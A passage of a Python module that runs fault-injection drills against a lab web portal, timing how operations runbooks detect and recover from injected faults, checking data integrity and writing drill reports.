        intact=AFTER_DUMP_POST_THERE,
    ),
)


def fault(fault_id: str) -> Fault:
    for item in FAULTS:
        if item.id == fault_id:
            return item
    raise BadInput(f"no fault {fault_id!r}; known: {', '.join(f.id for f in FAULTS)}")


def default_fault(runbook_id: str) -> Fault:
    """The fault a runbook's drill injects: the first one it is expected to recover from, else (a runbook that
    cannot repair by itself, as l2_content_stale cannot publish) the first one it answers."""
    answered = [item for item in FAULTS if runbook_id in item.runbooks]
    for item in answered:
        if item.expect is RunbookExit.RECOVERED:
            return item
    if answered:
        return answered[0]
    registry.get(runbook_id)  # an unknown runbook says so
    raise BadInput(f"runbook {runbook_id!r} has no drill fault; add one to portalops.faultdrill.FAULTS")


def require_lab(source: str) -> None:
    if Path(source).resolve() != Path(LAB_INVENTORY).resolve():
        raise BadInput(f"drills break hosts on purpose: only on the lab inventory ({LAB_INVENTORY}), not {source}")


def first_site(source: str) -> dict[str, str]:
    """The first site's name and domain, the CMS tier's port and the first word of the inventory's sensitive-word
    list (the lab's test word), for faults that send the site requests or change its content."""
    found = resolve_vars(source, ["all"], SITE_VARS, exact=False)
    first = next(iter(found.values()), {})
    return {key: str(first.get(key) or "") for key in SITE_VARS}


def drill_hosts(source: str, runbook_id: str, group: str) -> list[str]:
    """What a drill breaks and repairs: the runbook's targets and the fault's host, held while it runs."""
    inventory = load_inventory(source)
    return [*expand(inventory, registry.get(runbook_id).targets), first_host(source, group)]


def first_host(source: str, group: str) -> str:
    hosts = load_inventory(source).groups.get(group) or []
    if not hosts:
        raise BadInput(f"the inventory has no host in group {group!r}")
    return sorted(hosts)[0]


@dataclass
class DrillResult:
    runbook: str
    fault: str
    host: str
    expected: str
    outcome: str
    incident: str
    mttr_s: float
    target_s: float
    portal_ok: bool
    data_intact: bool | None
    ok: bool
    started: str
    notes: list[str] = field(default_factory=list)
    via: str = "runbook"  # runbook: the drill ran it; monitoring: mon1 and the responder did
    firing_s: float | None = None  # via monitoring: injection -> the alert's startsAt
    mttd_s: float | None = None  # via monitoring: injection -> incident opened
    alert: str = ""  # via monitoring: the alert that opened the incident
    closed_s: float | None = None  # via monitoring: injection -> incident closed


class Drill:
    """One drill on the lab; ``hosts`` connects to inventory hosts (tests hand in fakes)."""

    def __init__(
        self,
        source: str = str(LAB_INVENTORY),
        progress: Callable[[str], None] = print,
        hosts: Callable[[str, Sequence[str]], dict[str, Host]] = ssh_hosts,
        probe: Callable[[str], list[ProbeResult]] = probe_inventory,
        site: Callable[[str], dict[str, str]] | None = None,
        incidents: Path = INCIDENTS_DIR,
    ) -> None:
        require_lab(source)
        self.source = source
        self.progress = progress
        self._connect = hosts
        self._probe = probe
        self._site = site or first_site
        self.incidents = incidents
        self.injected_at = datetime.now(UTC)

    def _shell(self, host: str, command: str, timeout: float = 600) -> tuple[bool, str]:
        target = self._connect(self.source, [host])[host]
        try:
            result = target.run(command, timeout)
        finally:
            target.close()
        return result.ok, (result.stdout + result.stderr).strip()

    def _filled(self, item: Fault, host: str, command: str) -> str:
        """``command`` with its placeholders ({host}, {site}, {domain}, {word}, ...) filled in."""
        values = {"host": host, "staging": STAGING, "fpm_log": PHP_FPM_LOG, **self._site(self.source)}
        if item.on_lab:
            config = lab_config(load_inventory(self.source))
            values.update(container=config.container(config.host(host)), state=str(config.state_dir))
        for key, value in values.items():
            command = command.replace("{" + key + "}", value)
        return command

    def _fault_shell(self, item: Fault, host: str, command: str) -> tuple[bool, str]:
        command = self._filled(item, host, command)
        return self._local(command) if item.on_lab else self._shell(host, command)

    def inject(self, item: Fault) -> str:
        host = first_host(self.source, item.group)
        self.progress(f"inject {item.id} on {host}: {item.title}")
        ok, output = self._fault_shell(item, host, item.inject)
        if not ok:
            self._fault_shell(item, host, item.undo)
            raise BadInput(f"could not inject {item.id} on {host}: {output[-400:] or 'no output'}")
        return host

    def undo(self, item: Fault) -> bool:
        host = first_host(self.source, item.group)
        ok, output = self._fault_shell(item, host, item.undo)
        self.progress(f"undo {item.id} on {host}: {'done' if ok else 'FAILED ' + output[-300:]}")
        return ok

    def acted_in_any(self, incidents: Sequence[str], root: Path) -> dict[str, str]:
        """Each act step and how it ended in the incidents one fault opened: done when any run did it
        (the monitoring opens one incident per alert; the first run repairs, the others find it so)."""
        results: dict[str, str] = {}
        for incident in incidents:
            for step, result in self.acted(incident, root).items():
                results[step] = result if results.get(step) != "done" else "done"
        return results

    def acted(self, incident: str, incidents: Path | None = None) -> dict[str, str]:
        """Each act step of the incident and how it ended (done, not_needed, failed, ...)."""
        path = (incidents or self.incidents) / incident / "journal.jsonl"
        events = [json.loads(line) for line in path.read_text().splitlines() if line] if path.exists() else []
        return {
            str(e["step"]): str(e["result"]) for e in events if e.get("event") == "step_end" and e.get("kind") == "act"
        }

    def portal_ok(self) -> bool:
        results = self._probe(self.source)
        for result in results:
            if not result.ok:
                self.progress(f"probe: {result.site} {result.domain}: {result.error or result.status}")
        return bool(results) and all(result.ok for result in results)

    def _local(self, command: str, timeout: float = 300) -> tuple[bool, str]:
        result = LocalHost(REPO_ROOT).run(command, timeout)
        return result.ok, result.stdout + result.stderr

    def run(
        self,
        runbook_id: str,
        item: Fault,
        run_runbook: Callable[[str], tuple[RunbookExit, str]] | None = None,
    ) -> DrillResult:
        """The drill holding its hosts with the same lock as `portalops runbook run`, injection to undo."""
        hosts = drill_hosts(self.source, runbook_id, item.group)
        with TargetLock(self.source, hosts, f"drill {runbook_id} / {item.id}"):
            return self._drill(runbook_id, item, run_runbook)

    def run_via_monitoring(
        self, runbook_id: str, item: Fault, watch: ResponderWatch, timeout: float = 600, confirm: bool = False
    ) -> DrillResult:
        """Inject under the targets' lock, then only watch the responder do the rest (``confirm``: play the
        person who confirms a destructive step, with the command the notification names)."""
        watch.require_running()
        # An alert an earlier fault left firing would open an incident whose run repairs this fault first.
        watch.wait_quiet(timeout, settle=min(watch.config.reconcile_interval, 30.0))
        hosts = drill_hosts(self.source, runbook_id, item.group)
        seen: list[Watched] = []

        def watched(runbook: str) -> tuple[RunbookExit, str]:
            since = self.injected_at
            resume = (lambda incident: self._resume(runbook, incident, watch)) if confirm else None
            seen.append(watch.watch(runbook, since, timeout, resume))
            ended = seen[0].exit  # RECOVERED is 0: never `or` it away
            return (RunbookExit.NOT_RECOVERED if ended is None else ended), seen[0].incident

        result = self._drill(
            runbook_id,
            item,
            watched,
            hold=lambda: self._when_free(hosts, f"drill {runbook_id} / {item.id} (injection)", timeout),
            acts=lambda _incident: self.acted_in_any(seen[0].incidents, watch.config.incidents),
        )
        found = seen[0]
        result.via, result.alert, result.firing_s = "monitoring", found.alert, found.firing_s
        result.mttd_s, result.closed_s = found.opened_s, found.closed_s
        result.mttr_s = found.recovered_s if found.recovered_s is not None else result.mttr_s
        # the target note of _drill timed the whole watch, close included: say it of the MTTR counted here
        result.notes = found.notes + [n for n in result.notes if not n.startswith("MTTR ")]
        if item.target_s and result.mttr_s > item.target_s:
            result.notes.append(f"MTTR {result.mttr_s:.1f} s is over the {item.target_s:g} s target")
        if found.waiting_step:
            how = "confirmed by the drill" if found.confirmed else "NOT confirmed: the incident waits"
            result.notes.append(f"the unattended run stopped before {found.waiting_step} ({how})")
        if found.person_command:
            how = "run by the drill" if found.confirmed else "NOT run: the incident waits"
            result.notes.append(
                f"the responder ran nothing, the incident waited for a person: {found.person_command} ({how})"
            )
        if found.exit is RunbookExit.RECOVERED and found.closed_s is None:
            result.ok = False
        return result

    def _when_busy_retry(self, action: Callable[[], T], wait: float) -> T:
        """``action`` again every ``BUSY_RETRY_S`` s while another run holds its hosts (as a person would), up to
        ``wait`` s: a run the monitoring started for a late or flapping alert may still be on them. Taking a
        free lock is cheap; the holder's run is what the drill waits for, so it goes on the moment that ends."""
        deadline = time.monotonic() + wait
        said = ""
        while True:
            try:
                return action()
            except EnvironmentProblem as busy:
                if BUSY not in busy.message or time.monotonic() > deadline:
                    raise
                if busy.message != said:
                    self.progress(f"drill: {busy.message}; trying again every {BUSY_RETRY_S:g} s")
                    said = busy.message
                time.sleep(BUSY_RETRY_S)

    @contextlib.contextmanager
    def _when_free(self, hosts: Sequence[str], what: str, wait: float) -> Iterator[TargetLock]:
        """The hosts' lock, held once no other run holds them."""
        lock = TargetLock(self.source, list(hosts), what)
        self._when_busy_retry(lock.acquire, wait)
        try:
            yield lock
        finally:
            lock.release()

    def _resume(self, runbook_id: str, incident: str, watch: ResponderWatch, wait: float = 600) -> RunbookExit:
        """``portalops runbook run RUNBOOK --resume INCIDENT --yes``, as the waiting notice says."""
        options = Options(yes=True, resume=incident)
        runbook = registry.get(runbook_id)
        return self._when_busy_retry(
            lambda: (
                run_live(runbook, self.source, self.progress, lambda _q: True, options, watch.config.incidents).exit
            ),
            wait,
        )

    def _drill(
        self,
        runbook_id: str,
        item: Fault,
        run_runbook: Callable[[str], tuple[RunbookExit, str]] | None = None,
        hold: Callable[[], contextlib.AbstractContextManager[object]] = contextlib.nullcontext,
        acts: Callable[[str], dict[str, str]] | None = None,
    ) -> DrillResult:
        runbook = registry.get(runbook_id)
        if runbook.id not in item.runbooks:
            raise BadInput(f"fault {item.id} is answered by {', '.join(item.runbooks)}, not {runbook.id}")
        if not self.portal_ok():
            raise BadInput("the lab portal does not answer before the drill: converge it first (make demo)")
        started = datetime.now(UTC)
        with hold():
            host = self.inject(item)
        self.injected_at = datetime.now(UTC)
        clock = time.monotonic()
        try:
            outcome, incident = (run_runbook or self._run_runbook)(runbook.id)
            mttr = time.monotonic() - clock
            portal = self.portal_ok()
            intact: bool | None = None
            if item.intact:
                # On the fault's host, its placeholders filled as the injection's were (sensitive_word_published's
                # check names the site and the word: unfilled, it asked for the user wp-{site}).
                intact, output = self._shell(host, self._filled(item, host, item.intact), timeout=600)
                self.progress(f"data check on {host}: {'intact' if intact else 'LOST'}: {output[-400:]}")
            after, after_output = self._shell(host, item.after) if item.after else (True, "")
            if item.after:
                self.progress(
                    f"after the runbook on {host}: {'as expected' if after else 'NOT'}: {after_output[-400:]}"
                )
        finally:
            undone = self.undo(item)
        recovered = item.expect is RunbookExit.RECOVERED
        results = (acts or self.acted)(incident)
        missing = [step for rb, step in item.acts if rb == runbook.id and results.get(step) != "done"]
        forbidden = [step for rb, step in item.never if rb == runbook.id and results.get(step) == "done"]
        ok = outcome is item.expect and (portal or not recovered) and intact is not False and undone and not missing
        ok = ok and after and not forbidden
        result = DrillResult(
            runbook=runbook.id,
            fault=item.id,
            host=host,
            expected=item.expect.name.lower(),
            outcome=outcome.name.lower(),
            incident=incident,
            mttr_s=round(mttr, 1),
            target_s=item.target_s,
            portal_ok=portal,
            data_intact=intact,
            ok=ok,
            started=started.strftime("%Y-%m-%dT%H:%M:%SZ"),
        )
        if missing:
            result.notes.append(f"the runbook did not repair it itself: {', '.join(missing)} not done")
        if forbidden:
            result.notes.append(f"the runbook did what it must not for this fault: {', '.join(forbidden)} done")
        if not after:
            result.notes.append(f"after the runbook, {host} is not as expected: {after_output.strip()[-300:]}")
        if not undone:
            result.notes.append("the undo failed: the lab may still be broken")
        if item.target_s and mttr > item.target_s:
            result.notes.append(f"MTTR {mttr:.1f} s is over the {item.target_s:g} s target")
        return result

    def _run_runbook(self, runbook_id: str) -> tuple[RunbookExit, str]:
        result = run_live(
            registry.get(runbook_id),
            self.source,
            self.progress,
            lambda _question: True,
            Options(yes=True),
            INCIDENTS_DIR,
        )
        return result.exit, result.incident


def write_report(result: DrillResult, directory: Path = REPORTS_DIR) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{result.started.replace(':', '').replace('-', '')}-{result.runbook}-{result.fault}.json"
    path.write_text(json.dumps(asdict(result), indent=2, ensure_ascii=False) + "\n")
    return path


def record(result: DrillResult, plans: Path = PLANS_DIR) -> Path:
    """Keep the result as its runbook's latest drill, which the emergency plans show (regenerate them).

    Only the drill of the runbook's own fault stands for the plan; another fault's drill of the same
    runbook (``--fault``) is kept beside it as ``runbook:fault`` and never replaces it.
    """
    path = plans / DRILLS_FILE
    drills = json.loads(path.read_text()) if path.exists() else {}
    own = result.fault == default_fault(result.runbook).id
    drills[result.runbook if own else f"{result.runbook}:{result.fault}"] = asdict(result)
    path.write_text(json.dumps(dict(sorted(drills.items())), indent=2, ensure_ascii=False) + "\n")
    return path


def summary(result: DrillResult) -> str:
    data = {None: "not checked", True: "intact", False: "LOST"}[result.data_intact]
    target = f" (target {result.target_s:g} s)" if result.target_s else ""
    verdict = "PASS" if result.ok else "FAIL"
    lines = [
        f"drill {result.runbook} / {result.fault} on {result.host}: {verdict}",
        f"  runbook outcome {result.outcome} (expected {result.expected}), incident {result.incident}",
        f"  MTTR {result.mttr_s:.1f} s{target}; portal {'answers' if result.portal_ok else 'DOWN'}; data {data}",
    ]
    if result.via == "monitoring":

        def took(value: float | None) -> str:
            return "never" if value is None else f"after {value:.1f} s"

        lines.append(
            f"  via the monitoring: {result.alert or 'no alert'}; incident opened {took(result.mttd_s)} (MTTD), "
            f"closed {took(result.closed_s)}, counted from the injection"
        )
    lines += [f"  note: {note}" for note in result.notes]
    return "\n".join(lines)
